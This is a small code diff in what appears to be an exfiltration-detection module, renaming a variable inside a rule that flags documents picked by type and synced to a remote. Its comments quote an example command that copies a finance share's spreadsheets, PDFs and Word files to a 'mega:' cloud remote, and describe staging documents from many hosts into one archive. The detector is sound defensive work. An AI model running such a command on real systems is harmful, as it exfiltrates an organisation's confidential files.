@@ -261,8 +261,8 @@ def covert_exfil(found: Capabilities) -> Detection | None:
         # A sync tool told to take only office documents (`rclone copy \\fs01\Finance
         # mega:x --include "*.{xlsx,pdf,docx}"`) to a remote: a folder's documents picked by
         # type and taken, where a backup copies the folder whole (or its own archive's parts).
-        picked = (Cap.DOCUMENT_SELECTION, Cap.NET_SEND)
-        return supported(found, 0.75, picked, "a folder's documents picked by type and synced out")
+        synced = (Cap.DOCUMENT_SELECTION, Cap.NET_SEND)
+        return supported(found, 0.75, synced, "a folder's documents picked by type and synced out")
     if found.has_all(*_COLLECTED):
         # Documents picked by type out of the shares of every host of an address range and
         # packed into one archive: what is collected and staged to be taken, whichever way it
